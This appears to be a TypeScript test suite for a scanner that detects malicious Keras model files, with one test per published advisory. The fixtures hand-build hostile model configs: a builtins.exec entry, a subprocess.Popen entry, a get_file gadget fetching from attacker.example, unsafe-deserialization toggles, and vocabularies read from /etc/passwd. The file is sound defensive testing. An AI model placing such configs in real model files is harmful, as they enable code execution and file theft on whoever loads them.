// Published Keras model-loading advisories as regression tests. Each file is built by structure (config.json in
// a .keras zip, the way keras.saving writes it; a model_config JSON for .h5) from the advisory's description of
// the mechanism; nothing is loaded with Keras.
import { buildZip, checks, enc, scanBytes } from './support/fixtures.js';
import type { Json } from '../../src/analyze/json.js';
import type { ScanOutcome } from '../../src/scan/types.js';

const keras = (config: Json): Uint8Array => buildZip([
  { name: 'metadata.json', data: enc('{"keras_version": "3.10.0", "date_saved": "2025-01-01@00:00:00"}'), method: 8 },
  { name: 'config.json', data: enc(JSON.stringify(config)), method: 8 },
  { name: 'model.weights.h5', data: new Uint8Array([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, ...new Uint8Array(64)]) }
]);

/** A benign Functional model whose first layer is `layer`, nested `depth` models deep. */
function functional(layer: Json, depth = 0): Json {
  let inner: Json = layer;
  for (let d = 0; d < depth; d++) {
    inner = { module: 'keras', class_name: d % 2 ? 'Functional' : 'Sequential', registered_name: null,
      config: { name: `m${d}`, layers: [{ module: 'keras.layers', class_name: 'Dense', config: { units: 1 } }, inner] } };
  }
  return { module: 'keras', class_name: 'Functional', config: { name: 'model', trainable: true, layers: [
    { module: 'keras.layers', class_name: 'InputLayer', config: { batch_shape: [null, 4] } }, inner] } };
}

const critical = (o: ScanOutcome, check: string): boolean => o.findings.some((f) => f.check === check && f.severity === 'critical');

describe('Keras advisories', () => {
  test('CVE-2024-3660: a Lambda layer with marshalled bytecode, at any depth', () => {
    const lambda = { module: 'keras.layers', class_name: 'Lambda', config: { name: 'l', function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAAAAAAAAE=', defaults: null, closure: null } } } };
    for (const depth of [0, 1, 5, 300]) {
      const o = scanBytes(keras(functional(lambda, depth)), 'model.keras');
      expect(critical(o, 'keras.lambda')).toBe(true);
    }
  });

  test('CVE-2025-1550: config.json names a module outside keras (builtins.exec, subprocess.Popen)', () => {
    const exec = { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' };
    const popen = { module: 'subprocess', class_name: 'Popen', config: { args: ['id'] } };
    for (const layer of [exec, popen]) {
      const o = scanBytes(keras(functional(layer, 2)), 'model.keras');
      expect(o.findings.find((f) => f.check === 'keras.module')?.severity).toMatch(/critical|high/);
    }
    // Keras' own built-in function names under `builtins` are looked up in Keras, not Python: no finding.
    const relu = { module: 'builtins', class_name: 'function', config: 'relu', registered_name: 'function' };
    expect(checks(scanBytes(keras(functional({ module: 'keras.layers', class_name: 'Activation', config: { activation: relu } })), 'model.keras'))).not.toContain('keras.module');
  });

  test('CVE-2025-8747: a Lambda whose function is keras.utils.get_file', () => {
    const gadget = { module: 'keras.layers', class_name: 'Lambda', config: { function: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' },
      arguments: { origin: 'https://attacker.example/payload', cache_dir: '/tmp' } } };
    const o = scanBytes(keras(functional(gadget, 1)), 'model.keras');
    expect(critical(o, 'keras.gadget')).toBe(true);
  });

  test('CVE-2025-9906: enable_unsafe_deserialization first, then a Lambda; and load_model with safe_mode off', () => {
    const off = { module: 'keras.layers', class_name: 'Lambda', config: { function: { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization', registered_name: 'function' } } };
    const reload = { module: 'keras.layers', class_name: 'Lambda', config: { function: { module: 'keras.models', class_name: 'function', config: 'load_model', registered_name: 'function' }, arguments: { safe_mode: false } } };
    for (const layer of [off, reload]) {
      const o = scanBytes(keras(functional(layer, 3)), 'model.keras');
      expect(critical(o, 'keras.gadget')).toBe(true);
    }
    expect(checks(scanBytes(keras(functional(reload)), 'model.keras'))).toContain('keras.safe-mode-off');
  });

  test('CVE-2025-9905: a Lambda in a legacy .h5 model_config (safe_mode is ignored for .h5)', () => {
    const cfg = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: ['4wEAAAAAAAAA', null, null], function_type: 'lambda' } }] }, keras_version: '2.15.0' };
    const h5 = new Uint8Array([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, ...new Uint8Array(600), ...enc(JSON.stringify(cfg)), 0, 0, 0]);
    expect(critical(scanBytes(h5, 'model.h5'), 'keras.lambda')).toBe(true);
  });

  test('CVE-2025-49655: TorchModuleWrapper (a pickled torch module inside the config)', () => {
    const tmw = { module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { module: 'gASVAAAA' } };
    expect(critical(scanBytes(keras(functional(tmw, 2)), 'model.keras'), 'keras.torch-module-wrapper')).toBe(true);
  });

  test('CVE-2025-12058: StringLookup / IntegerLookup / TextVectorization vocabularies read from paths or URLs', () => {
    for (const cls of ['StringLookup', 'IntegerLookup', 'TextVectorization']) {
      const layer = { module: 'keras.layers', class_name: cls, config: { vocabulary: cls === 'IntegerLookup' ? 'gs://bucket/vocab.txt' : '/etc/passwd' } };
      const o = scanBytes(keras(functional(layer, 4)), 'model.keras');
      expect(o.findings.find((f) => f.check === 'keras.file-read')?.severity).toBe('high');
    }
    // An inline vocabulary (a list) reads nothing.
    const inline = { module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: ['a', 'b'] } };
    expect(checks(scanBytes(keras(functional(inline)), 'model.keras'))).not.toContain('keras.file-read');
  });

  test('CVE-2026-1462: TFSMLayer loads an attacker-chosen SavedModel', () => {
    const tfsm = { module: 'keras.layers', class_name: 'TFSMLayer', config: { filepath: '/tmp/evil_savedmodel', call_endpoint: 'serve' } };
    const reg = { module: 'keras.src.export.tfsm_layer', class_name: 'TFSMLayer', registered_name: 'keras>TFSMLayer', config: { filepath: 'gs://x/y' } };
    for (const layer of [tfsm, reg]) expect(critical(scanBytes(keras(functional(layer, 2)), 'model.keras'), 'keras.tfsm-layer')).toBe(true);
  });

  test('a benign deeply nested Keras 3 model stays approved', () => {
    const o = scanBytes(keras(functional({ module: 'keras.layers', class_name: 'Dense', config: { units: 3, activation: 'relu' } }, 40)), 'model.keras');
    expect(o.findings.filter((f) => f.severity !== 'info' && f.severity !== 'low')).toEqual([]);
  });

  test('duplicate keys in config.json whose values differ block (first-wins readers see another model)', () => {
    const text = '{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}, "config": {"layers": []}}';
    const o = scanBytes(enc(text), 'config.json');
    expect(checks(o)).toContain('json.duplicate-key');
  });
});

// The count of `"class_name"` in an .h5 decides whether every Keras object description was inside a checked
// document. It is counted per chunk plus across each chunk's start (no copy of the chunk), so it must not depend on
// where the chunks fall, the quote two descriptions can share included.
test('an .h5 file\'s "class_name" count is the same however the bytes are pushed, overlapping ones included', async () => {
  const { createKerasH5Scanner } = await import('../../src/scan/keras.js');
  const bin = (n: number): Uint8Array => Uint8Array.from({ length: n }, (_, i) => (i * 7 + 1) & 0x0f);
  const parts = [
    Uint8Array.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]), bin(300), enc('"class_name"class_name"'), bin(5),
    enc('"class_name""class_name"'), bin(40), enc('{"class_name": "Dense", "config": {"units": 1}}'), bin(3), enc('"class_name"')
  ];
  const bytes = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  parts.reduce((at, p) => (bytes.set(p, at), at + p.length), 0);
  const run = (size: number): string => {
    const s = createKerasH5Scanner({ path: 'model.h5' }, {});
    for (let at = 0; at < bytes.length; at += size) s.push(bytes.subarray(at, at + size));
    const out = s.end() as ScanOutcome;
    return out.findings.map((f) => `${f.check} ${f.message}`).join('\n');
  };
  const whole = run(bytes.length);
  // Six in all, the two sharing a quote counted both: the document's one is checked, five are not.
  expect(whole).toMatch(/keras\.config-unexamined 5 of 6 Keras object descriptions/);
  for (let size = 1; size <= 30; size++) expect(run(size)).toBe(whole);
});
